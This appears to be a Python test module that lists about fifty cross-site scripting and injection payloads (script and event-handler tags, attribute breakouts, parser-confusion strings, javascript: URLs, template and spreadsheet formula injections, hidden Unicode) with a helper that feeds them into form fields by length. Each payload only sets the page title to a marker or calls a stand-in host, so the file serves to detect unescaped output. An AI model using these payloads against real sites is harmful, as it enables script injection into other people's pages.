"""What people could write to make a page do something: each would change the page's title, or ask another host, if it ran.

``MARK`` stands in each of them, so that a page that shows one is known by it.
"""

from __future__ import annotations

from collections.abc import Callable
from itertools import count
from typing import Final

MARK: Final = "xss7"
_DO: Final = f"document.title='{MARK}'"
_AWAY: Final = f"//{MARK}.example/a"

PAYLOADS: Final = (
    # Elements that run at once.
    f"<script>{_DO}</script>",
    f"<SCRIPT SRC=https:{_AWAY}.js></SCRIPT>",
    f"<scr<script>ipt>{_DO}</script>",
    f"<svg onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<img src=x onerror={_DO}>",
    f"<img src=https:{_AWAY}.png>",
    f"<body onload={_DO}>",
    f"<iframe srcdoc=\"<script>parent.{_DO}</script>\"></iframe>",
    f"<iframe src=\"javascript:parent.{_DO}\"></iframe>",
    f"<object data=\"data:text/html,<script>{_DO}</script>\"></object>",
    f"<embed src=https:{_AWAY}>",
    f"<video><source onerror={_DO}></video>",
    f"<audio src=x onerror={_DO}></audio>",
    f"<input autofocus onfocus={_DO}>",
    f"<details open ontoggle={_DO}>",
    f"<marquee onstart={_DO}>",
    f"<meta http-equiv=refresh content=\"0;url=https:{_AWAY}\">",
    f"<base href=https:{_AWAY}>",
    f"<link rel=stylesheet href=https:{_AWAY}.css>",
    f"<style>@import 'https:{_AWAY}.css';</style>",
    f"<form action=https:{_AWAY}><button>{MARK}</button></form>",
    f"<title>{MARK}</title>",
    # Out of where a text stands: attributes, comments, areas, scripts.
    f"\" onmouseover=\"{_DO}\" autofocus onfocus=\"{_DO}",
    f"' onfocus='{_DO}' autofocus='",
    f"\"><img src=x onerror={_DO}>",
    f"'><svg/onload={_DO}>",
    f"--><script>{_DO}</script><!--",
    f"</textarea><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"</script><script>{_DO}</script>",
    f"]]><script>{_DO}</script>",
    f"`${{{_DO}}}`",
    f"\\u003cimg src=x onerror={_DO}\\u003e",
    f"&lt;img src=x onerror={_DO}&gt;",
    f"&#60;script&#62;{_DO}&#60;/script&#62;",
    # What one parser reads otherwise than the next.
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={_DO}&gt;\">",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={_DO}>\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={_DO}>\">",
    f"<template><script>{_DO}</script></template>",
    f"<x/><!DOCTYPE x [<!ENTITY y \"{MARK}\">]>&y;",
    # Addresses.
    f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}//{MARK}",
    f"data:text/html,<script>{_DO}</script>",
    f"https:{_AWAY}",
    # Templates, formulas, and letters that hide what stands there.
    f"{{{{7*7}}}}{{% raw %}}{MARK}",
    f"${{7*7}}#{{7*7}}<%= {MARK} %>",
    f"=HYPERLINK(\"https:{_AWAY}\",\"{MARK}\")",
    f"\u202e{MARK}\u2066<svg onload={_DO}>\u2069",
    f"{MARK}\ufeff\u200b<img src=x\u00a0onerror={_DO}>",
    # What Trusted Types would hold up: a text that ends up in a sink.
    f"trustedTypes.defaultPolicy;{MARK};eval('{_DO}')",
)  # fmt: skip
#: For names of a few letters.
SHORT: Final = ("<b>", "\"'>", "{{7}}", "<svg>", "&lt;", "'><")


def in_turn() -> Callable[[int], str]:
    """Gives them one after the other, as long as a field takes; the marked ones wherever there is room."""
    numbers = count()

    def words(longest: int) -> str:
        for _ in PAYLOADS:
            one = PAYLOADS[next(numbers) % len(PAYLOADS)]
            if len(one) <= longest:
                return one
        return SHORT[next(numbers) % len(SHORT)][:longest]

    return words
